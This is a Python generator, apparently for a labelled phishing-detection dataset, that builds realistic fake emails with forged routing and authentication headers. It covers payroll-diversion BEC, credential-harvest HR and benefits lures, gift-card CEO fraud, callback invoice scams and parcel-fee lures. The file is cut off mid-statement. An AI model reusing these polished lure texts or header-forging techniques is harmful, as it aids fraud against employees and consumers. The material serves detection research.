    t = T("2025-09-08 13:37:04")
    frm = "rebecca.holloway.lu@gmail.com"
    g = google_out(frm, USU, t, stem, workspace=False)
    auth = Auth("pass", frm, g["sigs"], "pass", "gmail.com", "none", "quarantine")
    top, bottom = m365_in("usu", stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth, ctry="US")
    plain = ("Hello Payroll Team,\n\nI recently switched banks and would like to update my direct deposit information "
             "before the next pay date on the 15th. Please let me know what details you need from me, or if there is a "
             "form I should fill out. I am in and out of lectures today so email is the best way to reach me.\n\nThank "
             "you,\nRebecca Holloway\nAssociate Professor, Department of Biology\n")
    html = gmail_html(["Hello Payroll Team,", "",
                       "I recently switched banks and would like to update my direct deposit information before the next "
                       "pay date on the 15th. Please let me know what details you need from me, or if there is a form I "
                       "should fill out. I am in and out of lectures today so email is the best way to reach me.", "",
                       "Thank you,", "Rebecca Holloway", "Associate Professor, Department of Biology"])
    hdr = join(top, g["pre"], "MIME-Version: 1.0", f"From: Rebecca Holloway <{frm}>", f"Date: {rfc(t, 'America/Chicago')}",
               f"Message-ID: {g['msgid']}", "Subject: Direct Deposit Update", f"To: {rcpt}", bottom)
    body = Multi("alternative", g["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "UTF-8"),
                                          tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "phishing", "Payroll diversion BEC: a Gmail account using a professor's name asks the payroll office to change "
         "her direct-deposit bank details before the next pay date; no link or attachment.", message(hdr, body))


@build
def phish_pay_award_sharefile():
    stem = "b46-phish-pay-award-sharefile"
    rcpt = f"lisa.morgan@{UKHA}"
    dom = "svhomes-hr.co.uk"
    t = T("2025-04-02 07:58:21")
    ip, helo, rdns = "5.253.246.121", f"mx.{dom}", "vm-5-253-246-121.hostinger-eu.net"
    auth = Auth("pass", f"hr@{dom}", [("pass", dom, "dkim")], "none", dom)
    top, bottom = m365_in("ukha", stem, later(t, 2), ip, helo, rdns, auth, ctry="LT")
    link = f"https://svhomes.sharefile-docs.com/d-s{hx(stem + 'sf', 17)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#333;">
<p>Dear Lisa Morgan,</p>
<p>Following the conclusion of this year's pay negotiations, your individual <b>2025/26 Pay Award letter</b> has been
issued through our secure document portal. The letter confirms your revised salary, effective 1 April 2025, and any
changes to your pension contribution band.</p>
<p>Please review and acknowledge the letter by <b>Friday 4 April</b> so that the change can be applied in the April payroll run.</p>
<p><a href="{link}" style="display:inline-block;background:#00857a;color:#fff;padding:10px 20px;text-decoration:none;border-radius:3px;">View Pay Award Letter</a></p>
<p>This document is confidential and intended only for the named recipient.</p>
<p>Kind regards,<br>People &amp; Culture Team<br>Severn Vale Homes</p>
<p style="font-size:11px;color:#888;">Sent securely via ShareFile. &copy; 2025 Progress Software Corporation.</p>
</body></html>
"""
    plain = plain_from(["Dear Lisa Morgan,",
                        "Following the conclusion of this year's pay negotiations, your individual 2025/26 Pay Award letter has "
                        "been issued through our secure document portal.",
                        f"View Pay Award Letter: {link}",
                        "People & Culture Team\nSevern Vale Homes"])
    hdr = join(top, dkim(dom, "dkim", "from:to:subject:date:message-id:mime-version:content-type", stem, t),
               f"Received: from [10.0.0.4] (unknown [185.244.25.{num(stem + 'c', 2, 250)}])\n\tby mx.{dom} (Postfix) with "
               f"ESMTPSA id {alnum(stem + 'q', 11, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f'From: "People & Culture - Severn Vale Homes" <hr@{dom}>',
               f"To: {rcpt}",
               "Subject: Confidential: Your 2025/26 Pay Award Letter",
               f"Date: {rfc(t, 'Europe/London')}",
               f"Message-ID: <{hx(stem + 'mid', 20)}@{dom}>",
               "MIME-Version: 1.0",
               "X-Mailer: Microsoft Outlook 16.0", bottom)
    emit(stem, "phishing", "HR 'your 2025/26 pay award letter' lure from a look-alike people-and-culture domain, linking to a "
         "fake ShareFile portal (credential harvest).", message(hdr, alt(stem, plain, html)))


@build
def phish_handbook_webflow():
    stem = "b46-phish-handbook-webflow"
    rcpt = f"tmclean@{CA}"
    t = T("2025-01-14 15:21:47")
    sender = "office@saskfoodshare.ca"
    g = google_out(sender, CA, t, stem)
    auth = Auth("pass", sender, g["sigs"], "pass", "saskfoodshare.ca", "none")
    top = gmail_in(rcpt, stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth)
    link = "https://apcu-employee-handbook-2025.webflow.io/"
    paras = ["Hello Team,", "",
             "Human Resources has published the <b>2025 Employee Handbook</b>, including updates to the hybrid-work, "
             "overtime and code-of-conduct policies. All employees are required to read and acknowledge the handbook by "
             "<b>January 17, 2025</b>.", "",
             f'<a href="{link}">Review &amp; Acknowledge Handbook</a>', "",
             "Failure to acknowledge may affect eligibility for the Q1 performance cycle.", "",
             "Thank you,", "Human Resources | Aspen Prairie Credit Union"]
    html = gmail_html(paras)
    plain = plain_from(paras)
    hdr = join(top, g["pre"], "MIME-Version: 1.0", f'From: "HR Department" <{sender}>',
               f"Date: {rfc(t, 'America/Regina')}", f"Message-ID: {g['msgid']}",
               "Subject: ACTION REQUIRED: 2025 Employee Handbook Acknowledgement",
               "To: undisclosed-recipients:;")
    body = Multi("alternative", g["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "UTF-8"),
                                          tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "phishing", "HR policy lure ('2025 Employee Handbook acknowledgement') sent Bcc from a compromised charity's "
         "Google Workspace mailbox with an HR display name, linking to a Webflow-hosted page that fronts the credential "
         "kit.", message(hdr, body))


@build
def phish_benefits_enrollment_ses():
    stem = "b46-phish-benefits-enrollment-ses"
    rcpt = f"kfoster@{USU}"
    dom = "lakemont-hr.com"
    t = T("2024-11-12 14:03:55")
    ip = f"54.240.{num(stem + 'a', 8, 11)}.{num(stem + 'b', 1, 250)}"
    rdns = f"a{ip.replace('.', '-')}.smtp-out.amazonses.com"
    rp = f"0100019{hx(stem + 'rp', 9)}-{uid(stem + 'rp2')}-000000@amazonses.com"
    auth = Auth("pass", rp, [("pass", dom, "wdsc5a3xkvuk2b7l5lsgkxnqolihbn5o"),
                             ("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")], "pass", dom, "none")
    top, bottom = m365_in("usu", stem, later(t, 1), ip, rdns, rdns, auth, ctry="US")
    link = f"https://lakemont-hr.com/benefits/enroll?token={b64url(stem + 'tok', 40)}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f2f4f7;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,Helvetica,sans-serif;">
<tr><td style="background:#0b2e59;padding:18px 24px;color:#fff;font-size:20px;">Lakemont University Human Resources</td></tr>
<tr><td style="padding:24px;font-size:15px;line-height:22px;color:#2b2b2b;">
<p>Dear Employee,</p>
<p>The <b>2025 Benefits Open Enrollment</b> period closes this <b>Friday, November 15 at 5:00 PM CT</b>. Our records
indicate that you have not yet confirmed your elections for medical, dental, vision and flexible spending accounts.</p>
<p>If no action is taken, your current coverage may not roll over and you will be enrolled in the default employee-only
plan for 2025.</p>
<p style="text-align:center;padding:10px 0;"><a href="{link}" style="background:#c8102e;color:#fff;padding:12px 28px;text-decoration:none;font-weight:bold;">Confirm My Elections</a></p>
<p>You will need your Lakemont NetID and password to sign in.</p>
<p>Benefits Administration<br>Office of Human Resources</p>
</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#888;background:#f7f7f7;">Lakemont University HR &middot; 400 College Ave &middot;
<a href="https://lakemont-hr.com/unsubscribe" style="color:#888;">Unsubscribe</a></td></tr>
</table></td></tr></table></body></html>
"""
    plain = plain_from(["Dear Employee,",
                        "The 2025 Benefits Open Enrollment period closes this Friday, November 15 at 5:00 PM CT. Our records "
                        "indicate that you have not yet confirmed your elections.",
                        f"Confirm My Elections: {link}", "Benefits Administration\nOffice of Human Resources"])
    hdr = join(top,
               dkim(dom, "wdsc5a3xkvuk2b7l5lsgkxnqolihbn5o", "From:To:Subject:MIME-Version:Content-Type:Message-ID:Date",
                    stem + "d1", t),
               dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "From:To:Subject:MIME-Version:Content-Type:"
                    "Message-ID:Date:Feedback-ID", stem + "d2", t),
               f"From: Lakemont HR Benefits <benefits@{dom}>",
               f"To: {rcpt}",
               "Subject: Final Reminder: 2025 Open Enrollment closes Friday - confirm your elections",
               "MIME-Version: 1.0",
               f"Message-ID: <{rp.split('@')[0]}@email.amazonses.com>",
               f"Date: {rfc(t)}",
               f"Feedback-ID: ::1.us-east-1.{b64(stem + 'fid', 43).replace('/', 'x').replace('+', 'y')}=:AmazonSES",
               f"X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-{ip}", bottom)
    emit(stem, "phishing", "Benefits open-enrollment 'final reminder' imitating the university HR office, sent through Amazon "
         "SES from a look-alike HR domain (aligned DKIM), linking to a NetID credential page on that domain.",
         message(hdr, alt(stem, plain, html)))


@build
def phish_student_job_offer():
    stem = "b46-phish-student-job-offer"
    rcpt = f"tbrooks27@{STU}"
    t = T("2025-09-23 16:40:12")
    sender = "d.morrison@students.crestviewcollege.edu"
    g = google_out(sender, STU, t, stem)
    auth = Auth("pass", sender, [("pass", "students.crestviewcollege.edu", "google")], "pass",
                "students.crestviewcollege.edu", "none", "none")
    top = gmail_in(rcpt, stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth)
    paras = ["Hello Student,", "",
             "The Career Services has approved a remote part-time job opportunity with <b>Hartley Biomedical Research</b> "
             "for students in all departments. The position is a <b>Personal / Administrative Assistant</b> to Dr. Alan "
             "Pierce and requires 5-8 hours a week. Pay is <b>$450 weekly</b>.", "",
             "Duties include running errands, scheduling, and handling small purchases on his behalf. No experience "
             "needed and it will not interfere with your classes.", "",
             "If interested, email Dr. Pierce directly with your full name, major and year of study and a personal "
             "(non-school) email address: <b>dr.alanpierce.hbr@gmail.com</b>", "",
             "Best regards,", "Career Services Team"]
    hdr = join(top, g["pre"], "MIME-Version: 1.0",
               f"From: Student Employment Office <{sender}>",
               f"Date: {rfc(t, 'America/New_York')}", f"Message-ID: {g['msgid']}",
               "Subject: Part-Time Job Opportunity ($450 weekly) - Apply Now",
               "To: undisclosed-recipients:;", "Reply-To: dr.alanpierce.hbr@gmail.com")
    body = Multi("alternative", g["bnd"], [tleaf(plain_from(paras), "plain", "quoted-printable", "utf-8", "UTF-8"),
                                          tleaf(gmail_html(paras), "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "phishing", "Fake remote 'administrative assistant, $450 weekly' job offer to students sent from another "
         "college's compromised student account with a Gmail reply address - the opening of a fake-cheque / "
         "gift-card employment scam.", message(hdr, body))


@build
def phish_piano_giveaway():
    stem = "b46-phish-piano-giveaway"
    rcpt = f"ajohnson26@{STU}"
    t = T("2024-10-03 18:22:31")
    frm = "elainecarter.music58@gmail.com"
    g = google_out(frm, STU, t, stem, workspace=False)
    auth = Auth("pass", frm, g["sigs"], "pass", "gmail.com", "none", "quarantine")
    top = gmail_in(rcpt, stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth)
    plain = ("Hello,\n\nI am giving away my late husband's Yamaha baby grand piano (2014 model) to a music lover or anyone "
             "who will truly cherish it. He was a retired music professor and it would mean a lot to me to see it go to "
             "a good home. I am downsizing and moving to be closer to my daughter.\n\nIf you are interested or know "
             "someone who would be, please email me at (elaine.carter.piano@gmail.com) with your name and address.\n\n"
             "Warm regards,\nElaine Carter\n")
    hdr = join(top, g["pre"], "MIME-Version: 1.0", f"From: Elaine Carter <{frm}>",
               f"Date: {rfc(t, 'America/Chicago')}", f"Message-ID: {g['msgid']}", "Subject: Piano Giveaway",
               f"To: {rcpt}")
    body = Multi("alternative", g["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "UTF-8"),
                                          tleaf(gmail_html(plain.strip().split("\n")), "html", "quoted-printable", "utf-8",
                                                "UTF-8")])
    emit(stem, "phishing", "Classic 'free piano giveaway' advance-fee scam to students from a Gmail account, asking for a "
         "reply to a second Gmail address (later 'shipping fees').", message(hdr, body))


@build
def phish_giftcard_ceo_au():
    stem = "b46-phish-giftcard-ceo-au"
    rcpt = f"sbaker@{AU}"
    t = T("2025-07-01 23:06:40")
    frm = "graham.pryce.hpe@gmail.com"
    body_text = ("Hi Sarah,\n\nAre you at your desk? I need you to get something done for me discreetly, I'm tied up in "
                 "back to back meetings with the client in Brisbane. Let me know as soon as you get this.\n\nGraham\n\n"
                 "Sent from my iPhone\n")
    hdrs, g = iphone_gmail("Graham Pryce", frm, rcpt, "Quick task", t, stem, body_text, AU, "Australia/Brisbane")
    auth = Auth("pass", frm, g["sigs"], "pass", "gmail.com", "none", "quarantine")
    top = postfix_in(rcpt, stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth)
    emit(stem, "phishing", "CEO-fraud opener from a Gmail account in the managing director's name ('Are you at your desk? "
         "I need something done discreetly'), sent from the iPhone Mail app; no link, leads to a gift-card request.",
         message(join(top, hdrs), Leaf("text/plain", body_text.encode(), "7bit", '; charset=us-ascii')))


@build
def phish_vouchers_ceo_uk():
    stem = "b46-phish-vouchers-ceo-uk"
    rcpt = f"owen.davies@{UKHA}"
    t = T("2024-12-16 09:14:03")
    frm = "helen.marsh.svh@outlook.com"
    mbx = f"DB9P194MB{num(stem + 'mb', 1000, 9999)}.EURP194.PROD.OUTLOOK.COM"
    mid = outlook_msgid(mbx, stem)
    auth = Auth("pass", frm, [("pass", "outlook.com", "selector1")], "pass", "outlook.com", "none")
    ip = f"40.92.{num(stem + 'i', 64, 127)}.{num(stem + 'j', 1, 250)}"
    helo = f"EUR03-DBA-obe.outbound.protection.outlook.com"
    rdns = f"mail-dbaeur03olkn20{num(stem + 'k', 10, 99)}.outbound.protection.outlook.com"
    top, bottom = m365_in("ukha", stem, later(t, 2), ip, helo, rdns, auth, ctry="IE")
    paras = ["Owen,", "",
             "Are you in the office today? I want to surprise the tenant liaison volunteers with Christmas vouchers "
             "before the panel meeting this afternoon and I need your help getting them sorted quickly.", "",
             "I'll need 8 Amazon gift cards of \u00a3100 each. Can you purchase them now and send me the codes by email? "
             "Scratch the back and take a clear photo of each. I'll make sure finance reimburses you today.", "",
             "Keep it between us for now, I want it to be a surprise.", "", "Helen", "", "Sent from Outlook for iOS"]
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div dir="ltr">'
            + "".join(f"<div>{p if p else '<br>'}</div>" for p in paras) + "</div></body></html>\n")
    hdr = join(top,
               "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b="
               + fold_long(b64(stem + "as", 342) + "==", 70, 76).replace("\n\t ", "\n "),
               dkim("outlook.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
                    "X-MS-Exchange-SenderADCheck", stem + "dk"),
               f"Received: from {mbx}\n ([fe80::{hx(stem + 'f', 4)}:{hx(stem + 'g', 4)}:{hx(stem + 'h', 4)}:{hx(stem + 'i', 4)}])"
               f" by {mbx}\n ([fe80::{hx(stem + 'f', 4)}:{hx(stem + 'g', 4)}:{hx(stem + 'h', 4)}:{hx(stem + 'i', 4)}%4]) with "
               f"mapi id {exver(t).rsplit('.', 1)[0]}.000; {rfc(t)}",
               f"From: Helen Marsh <{frm}>",
               f"To: Owen Davies <{rcpt}>",
               "Subject: Request",
               f"Thread-Topic: Request", f"Thread-Index: {thread_index(stem)}",
               f"Date: {rfc(t)}",
               f"Message-ID:\n {mid}",
               "Accept-Language: en-GB", "Content-Language: en-GB", "X-MS-Has-Attach:", "X-MS-TNEF-Correlator:",
               "MIME-Version: 1.0", "X-OriginatorOrg: outlook.com", bottom)
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [
        tleaf("\n".join(paras) + "\n", "plain", "quoted-printable", "utf-8", "utf-8"),
        tleaf(html, "html", "quoted-printable", "utf-8", "utf-8")])
    emit(stem, "phishing", "Gift-card CEO fraud: an outlook.com account in the chief executive's name asks a manager to buy "
         "eight GBP 100 Amazon vouchers 'for the tenant volunteers' and email photos of the codes; no link.",
         message(hdr, body))


@build
def phish_callback_norton_pdf():
    stem = "b46-phish-callback-norton-pdf"
    rcpt = f"lwong@{CA}"
    t = T("2024-08-20 12:47:09")
    frm = "hollisberenice622@gmail.com"
    g = google_out(frm, CA, t, stem, workspace=False)
    auth = Auth("pass", frm, g["sigs"], "pass", "gmail.com", "none", "quarantine")
    top = gmail_in(rcpt, stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth)
    phone = "+1 (808) 217-4496"
    pdf = F.pdf([
        "Norton LifeLock - Order Confirmation / Invoice",
        "",
        "Invoice No: NLK-88204715        Date: 08/20/2024",
        "Customer ID: 4471-2093-88",
        "",
        "Product                                  Term        Qty     Amount",
        "Norton 360 Deluxe + Identity Protection    3 Years     1     $399.99 USD",
        "Sales tax                                                        $0.00",
        "Total charged                                                  $399.99 USD",
        "",
        "Payment method: Auto-debit from account on file",
        "",
        "Your subscription has been renewed automatically. The amount will reflect in 24 hours.",
        f"If you did not authorize this charge, contact our billing support at {phone}",
        "to cancel and receive a full refund. Cancellation must be requested within 24 hours.",
        "",
        f"Billing support (Mon-Sun, 24h): {phone}",
    ], title="Invoice NLK-88204715")
    plain = ("Dear Customer,\n\nThank you for renewing your Norton 360 Deluxe subscription. Your order has been processed "
             "and the invoice is attached for your records.\n\nOrder ID: NLK-88204715\nAmount: $399.99 USD\n\nIf you have "
             f"any questions regarding this purchase please call {phone}.\n\nRegards,\nBilling Department\n")
    hdr = join(top, g["pre"], "MIME-Version: 1.0", f"From: Billing Department <{frm}>",
               f"Date: {rfc(t, 'America/Los_Angeles')}", f"Message-ID: {g['msgid']}",
               "Subject: Your Order Confirmation #NLK-88204715", f"To: {rcpt}")
    body = Multi("mixed", g["mixbnd"], [
        Multi("alternative", g["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "UTF-8"),
                                       tleaf(gmail_html(plain.strip().split("\n")), "html", "quoted-printable", "utf-8",
                                             "UTF-8")]),
        attachment("application/pdf", "Invoice_NLK-88204715.pdf", pdf),
    ])
    emit(stem, "phishing", "Callback (TOAD) scam: fake Norton 360 renewal 'invoice' for $399.99 from a Gmail account with a "
         "PDF that carries only a phone number to call for a refund; no links.", message(hdr, body))


@build
def phish_callback_geeksquad():
    stem = "b46-phish-callback-geeksquad"
    rcpt = f"mwebb@{USU}"
    t = T("2025-03-27 20:12:44")
    frm = "customercare.orders7731@gmail.com"
    g = google_out(frm, USU, t, stem, workspace=False)
    auth = Auth("pass", frm, g["sigs"], "pass", "gmail.com", "none", "quarantine")
    top, bottom = m365_in("usu", stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth, ctry="US")
    phone = "+1 (844) 690-3318"
    html = f"""<div dir="ltr"><table width="560" style="font-family:Arial,sans-serif;border:1px solid #ddd;" cellpadding="8">
<tr><td style="background:#0046be;color:#fff;font-size:20px;font-weight:bold;">GEEK SQUAD&reg; Protection</td></tr>
<tr><td>Dear Member,<br><br>Your <b>Geek Squad Total Tech Support</b> membership has been auto-renewed for another year.
The charge will appear on your statement within 24-48 hours.</td></tr>
<tr><td><table width="100%" style="font-size:13px;border-collapse:collapse;">
<tr><td style="border:1px solid #ddd;">Invoice</td><td style="border:1px solid #ddd;">GS-{digits(stem + 'inv', 9)}</td></tr>
<tr><td style="border:1px solid #ddd;">Plan</td><td style="border:1px solid #ddd;">Total Tech Support (5 devices)</td></tr>
<tr><td style="border:1px solid #ddd;">Renewal date</td><td style="border:1px solid #ddd;">03/27/2025</td></tr>
<tr><td style="border:1px solid #ddd;">Amount</td><td style="border:1px solid #ddd;"><b>$489.98</b></td></tr>
</table></td></tr>
<tr><td>If you wish to cancel the renewal or did not authorize this transaction, please contact our helpline within
24 hours: <b>{phone}</b><br><br>Thank you for choosing Geek Squad.</td></tr>
</table></div>
"""
    plain = (f"GEEK SQUAD Protection\n\nDear Member,\n\nYour Geek Squad Total Tech Support membership has been auto-renewed "
             f"for another year.\n\nAmount: $489.98\n\nIf you wish to cancel the renewal or did not authorize this transaction, "
             f"please contact our helpline within 24 hours: {phone}\n")
    hdr = join(top, g["pre"], "MIME-Version: 1.0", f"From: Geek Squad <{frm}>", f"Date: {rfc(t, 'America/New_York')}",
               f"Message-ID: {g['msgid']}", f"Subject: Membership Renewal Confirmation - GS{digits(stem + 'sub', 7)}",
               f"To: {frm}", bottom)
    body = Multi("alternative", g["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "UTF-8"),
                                          tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "phishing", "Callback scam: Geek Squad 'membership auto-renewed, $489.98' notice sent from Gmail to itself with "
         "the victim in Bcc, giving only a helpline number to cancel.", message(hdr, body))


@build
def phish_callback_paypal_invoice():
    stem = "b46-phish-callback-paypal-invoice"
    rcpt = f"eclarke@{AU}"
    t = T("2024-12-03 04:31:18")
    ip = f"173.0.84.{num(stem + 'ip', 225, 228)}"
    helo = rdns = f"mx{num(stem + 'mx', 1, 4)}.slc.paypal.com"
    auth = Auth("pass", "service@paypal.com", [("pass", "paypal.com", "pp-dkim1")], "pass", "paypal.com", "reject")
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth)
    phone = "+1 (888) 403-2917"
    inv = f"INV2-{alnum(stem + 'i1', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}-{alnum(stem + 'i2', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}-" \
          f"{alnum(stem + 'i3', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}-{alnum(stem + 'i4', 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}"
    link = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    note = (f"Your PayPal account has been debited $749.99 USD for McAfee Total Protection (5 devices, 3 years). If you "
            f"did not make this purchase, call our billing department immediately on {phone} to cancel and get a refund.")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="font-family:PayPalOpen-Regular,Helvetica Neue,Arial,sans-serif;color:#001435;">
<tr><td style="padding:24px 0;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" alt="PayPal"></td></tr>
<tr><td style="font-size:26px;font-weight:bold;padding-bottom:14px;">Billing Department sent you an invoice for $749.99 USD</td></tr>
<tr><td style="font-size:14px;padding-bottom:10px;">Due on receipt</td></tr>
<tr><td style="padding:14px 0;"><a href="{link}" style="background:#003087;color:#fff;border-radius:25px;padding:11px 30px;text-decoration:none;font-weight:bold;">View and Pay Invoice</a></td></tr>
<tr><td style="font-size:14px;padding-top:10px;"><b>Seller note to customer</b><br>{esc(note)}</td></tr>
<tr><td style="font-size:14px;padding-top:16px;">Invoice number<br>{inv}</td></tr>
<tr><td style="font-size:12px;color:#6c7378;padding-top:28px;">Don't recognize this invoice? <a href="https://www.paypal.com/invoice/p/report#{inv.replace('-', '')}" style="color:#0070e0;">Report this invoice</a><br><br>
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.
<a href="https://www.paypal.com/au/security/learn-about-fake-messages" style="color:#0070e0;">Learn to identify phishing</a><br><br>
Copyright &copy; 1999-2024 PayPal, Inc. All rights reserved. PayPal Australia Pty Limited ABN 93 111 195 389 (AFSL 304962).<br>
PayPal RT000238:en_AU(en-AU):1.0.0:{hx(stem + 'rt', 12)}</td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Billing Department sent you an invoice for $749.99 USD\n\nDue on receipt\n\nView and Pay Invoice: {link}\n\n"
             f"Seller note to customer\n{note}\n\nInvoice number\n{inv}\n\nDon't recognize this invoice? Report this invoice\n")
    hdr = join(top,
               dkim("paypal.com", "pp-dkim1", "Content-Type:Date:Message-ID:Subject:From:To:MIME-Version", stem + "pp", t,
                    i="@paypal.com"),
               f"Received: (qmail {num(stem + 'qm', 10000, 99999)} invoked by uid 993); {rfc(t)}",
               "Content-Transfer-Encoding: 7bit",
               f"Date: {rfc(t, 'America/Los_Angeles')}",
               f"Message-ID: <{hx(stem + 'mid', 13)}-{digits(stem + 'mid2', 8)}@paypal.com>",
               "Subject: Invoice from Billing Department (0047)",
               f'From: "Billing Department via PayPal" <service@paypal.com>',
               f"To: {rcpt}",
               "MIME-Version: 1.0",
               "X-MaxCode-Template: RT000238",
               "X-Email-Type-Id: RT000238",
               f"PP-Correlation-Id: {hx(stem + 'corr', 13)}",
               "X-XPT-XSL-Name: email_pimp/default/en_AU/invoicing/InvoiceSent.xsl")
    body = Multi("alternative", "--NextPart_" + hx(stem + "bnd", 12) + "_" + digits(stem + "bn", 10), [
        tleaf(plain, "plain", "quoted-printable", "utf-8", "UTF-8"), tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "phishing", "Callback scam delivered through a genuine PayPal invoice (paypal.com passes everything): the "
         "'seller note' claims a $749.99 McAfee charge and gives a phone number to call for a refund.",
         message(hdr, body))


@build
def phish_parcel_auspost_fastmail():
    stem = "b46-phish-parcel-auspost"
    rcpt = "liam.oconnor@fastmail.com"
    t = T("2025-10-08 06:02:15")
    dom = "auspost-redelivery.info"
    ip, helo, rdns = "91.215.85.142", f"mail.{dom}", "91-215-85-142.static.ipnet.ru"
    auth = Auth("pass", f"notify@{dom}", [], "none", dom)
    top = fastmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    link = f"https://shorturl.at/{alnum(stem + 's', 5)}"
    html = f"""<html><body style="font-family:Arial,sans-serif;background:#f3f3f3;padding:20px;">
<table width="560" align="center" style="background:#fff;" cellpadding="18"><tr><td>
<div style="color:#dc1928;font-weight:bold;font-size:22px;">Australia Post</div>
<p style="font-size:18px;font-weight:bold;">We couldn't deliver your parcel</p>
<p>Tracking number: <b>33LPK{digits(stem + 'trk', 9)}01000931509</b></p>
<p>Your parcel is being held at our facility because the delivery address was incomplete and a redelivery fee of
<b>$2.95</b> is outstanding. Please confirm your details within 48 hours to schedule redelivery, otherwise the item
will be returned to sender.</p>
<p><a href="{link}" style="background:#dc1928;color:#fff;padding:10px 24px;text-decoration:none;border-radius:3px;">Schedule redelivery</a></p>
<p style="font-size:11px;color:#777;">Australia Post acknowledges the Traditional Custodians of the land on which we operate.</p>
</td></tr></table></body></html>
"""
    hdr = join(top,
               f"Received: by mail.{dom} (Postfix, from userid 0)\n\tid {alnum(stem + 'q', 10, 'ABCDEF0123456789')}; {rfc(t)}",
               f"To: {rcpt}",
               "Subject: Your parcel could not be delivered - action required",
               f"From: AusPost <notify@{dom}>",
               "X-Priority: 1",
               f"Date: {rfc(t)}",
               f"Message-Id: <{digits(stem + 'mid', 14)}.{hx(stem + 'mid2', 8)}@{dom}>",
               "MIME-Version: 1.0")
    emit(stem, "phishing", "Australia Post 'parcel held, pay $2.95 redelivery fee' lure to a contractor's Fastmail mailbox "
         "from an unsigned look-alike domain on a bulletproof host, link through a URL shortener to a card-harvesting page.",
         message(hdr, tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")))


@build
def phish_parcel_evri():
    stem = "b46-phish-parcel-evri"
    rcpt = f"lisa.morgan@{UKHA}"
    t = T("2024-11-29 17:33:50")
    dom = "evri-parcelcare.com"
    ip, helo, rdns = "45.141.215.33", f"smtp.{dom}", "vm1933.ahost.uk"
    auth = Auth("softfail", f"noreply@{dom}", [], "none", dom)
    top, bottom = m365_in("ukha", stem, later(t, 2), ip, helo, rdns, auth, ctry="GB")
    link = f"https://evri-parcelcare.com/track/?p=H0{digits(stem + 'p', 14)}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#eef3f8;font-family:Arial,Helvetica,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:18px;">
<table width="580" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="background:#00214d;padding:16px 24px;color:#fff;font-size:26px;font-weight:bold;">evri</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#00214d;">
<p style="font-size:20px;font-weight:bold;">Sorry we missed you</p>
<p>Our courier tried to deliver your parcel today but couldn't get a safe place. Your parcel is now at your local
ParcelShop and will be returned if no action is taken.</p>
<p>Parcel: H0{digits(stem + 'p', 14)}<br>Status: <b>Awaiting rebooking</b></p>
<p><a href="{link}" style="background:#4a90d9;color:#fff;padding:11px 26px;text-decoration:none;">Rebook my delivery</a></p>
<p style="font-size:12px;color:#555;">A small rebooking fee of &pound;1.45 applies.</p>
</td></tr></table></td></tr></table></body></html>
"""
    hdr = join(top,
               f"Received: from [127.0.0.1] (unknown [{ip}])\n\tby smtp.{dom} (Postfix) with ESMTPA id "
               f"{alnum(stem + 'q', 10, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f"From: Evri <noreply@{dom}>",
               f"To: {rcpt}",
               "Subject: Sorry we missed you - rebook your parcel H0" + digits(stem + "p", 6),
               f"Date: {rfc(t)}",
               f"Message-ID: <{uid(stem + 'mid')}@{dom}>",
               "MIME-Version: 1.0",
               "X-Mailer: Sendinblue Mailer", bottom)
    emit(stem, "phishing", "Evri 'sorry we missed you, rebook for GBP 1.45' parcel lure from a look-alike domain with a "
